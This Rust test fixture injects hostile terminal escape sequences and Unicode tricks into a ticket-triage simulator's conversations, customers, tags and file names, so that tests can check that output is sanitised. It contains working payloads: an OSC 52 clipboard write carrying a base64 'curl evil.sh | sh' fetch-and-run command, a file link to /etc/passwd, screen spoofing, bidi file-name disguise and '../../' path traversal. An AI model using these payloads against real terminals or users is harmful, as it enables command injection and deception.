//! A hostile workspace (`triage sim --hostile`): every sequence of ANCHORS-RELIABILITY §1.2
//! in titles, names, tags and bodies, so tests can prove none of it reaches a terminal.

use super::db::Db;

/// Terminal attacks and layout breakers, one per entry.
pub const SEQUENCES: [&str; 17] = [
    "\u{1b}]52;c;Y3VybCBldmlsLnNoIHwgc2g=\u{7}", // OSC 52: overwrite the clipboard
    "\u{1b}]8;;file:///etc/passwd\u{1b}\\click me\u{1b}]8;;\u{1b}\\", // OSC 8 link to a file
    "\u{1b}]0;pwned title\u{7}\u{1b}[21t",       // set the title, then report it back
    "\u{1b}P$qm\u{1b}\\\u{1b}Ptmux;\u{1b}\u{1b}]52;c;eA==\u{7}\u{1b}\\", // DCS: DECRQSS, tmux passthrough
    "\u{1b}[2J\u{1b}[H\u{1b}[31mFAKE STATUS: all tickets closed\u{1b}[0m", // clear and spoof
    "\u{1b}[6n\u{1b}[c\u{1b}[5n\u{1b}]10;?\u{7}", // queries that answer into our input
    "\u{1b}c\u{1b}]4;1;rgb:ff/00/00\u{7}",       // reset, palette
    "line one\rOVERWRITTEN\u{8}\u{8}\u{7}",      // carriage return, backspace, bell
    "\u{9b}31mred\u{9d}0;title\u{9c}\u{90}dcs\u{9c}", // 8-bit C1 CSI, OSC, ST, DCS
    "invoice \u{202e}fdp.exe\u{202c} \u{2066}isolate\u{2069}", // bidi override, isolate
    "pay\u{200b}pal \u{e0041}\u{e0042}hidden \u{ad}soft", // zero-width space, tag chars, soft hyphen
    "\u{1b}[?1049l\u{1b}[?25l\u{1b}[?1000h\u{1b}[?2004l\u{1b}[>1u", // leave alt screen, hide cursor, mouse, paste, kitty
    "para\u{2028}graph\u{2029}break\u{85}next",                     // Unicode line and paragraph separators, NEL
    "\u{1b}[1;1H\u{1b}[K\u{1b}[10A\u{1b}[5C\u{1b}[r",               // cursor games and scroll region
    "tab\there\u{b}vt\u{c}ff\u{7f}del",                             // other C0 and DEL
    // Format and default-ignorable characters that shift columns without a glyph of their own.
    "an\u{FFF9}no\u{FFFA}ta\u{FFFB}ted \u{206A}\u{034F}\u{17B4}\u{1D173}\u{180E}\u{200C}\u{2800}wide \u{1F1FA}lone",
    "", // filled below: many combining marks
];

/// The `i`-th hostile sequence (the last one is 200 combining marks on one letter).
pub fn sequence(i: usize) -> String {
    let s = SEQUENCES[i % SEQUENCES.len()];
    if s.is_empty() { format!("Z{}", "\u{301}".repeat(200)) } else { s.to_string() }
}

/// Make every fifth conversation, a few customers and a tag hostile.
pub fn poison(db: &mut Db) {
    db.hostile = true;
    for (i, c) in db.conversations.iter_mut().enumerate().filter(|(i, _)| i % 5 == 0) {
        c.title = format!("{} {}", c.title, sequence(i / 5));
        c.summary = format!("{} {}", c.summary, sequence(i / 5 + 3));
        // A file whose name is a path out of the download directory, and worse.
        for file in &mut c.work.files {
            file.name = format!("../../.{}{}", file.name, sequence(i / 5 + 5));
        }
    }
    for (i, customer) in db.customers.iter_mut().enumerate().filter(|(i, _)| i % 6 == 0) {
        customer.name = format!("{} {}", customer.name, sequence(i + 1));
        if let Some(contact) = customer.contacts.first_mut() {
            contact.name = format!("{} {}", contact.name, sequence(i + 2));
        }
    }
    if let Some(tag) = db.tags.first_mut() {
        tag.name = format!("{} {}", tag.name, sequence(4));
    }
    if let Some(user) = db.users.get_mut(1) {
        user.name = format!("{} {}", user.name, sequence(9));
    }
}

/// A hostile tail for a message of a hostile conversation.
pub fn body_suffix(friendly_id: u64, position: usize) -> Option<String> {
    (friendly_id % 5 == 1).then(|| sequence(friendly_id as usize + position))
}
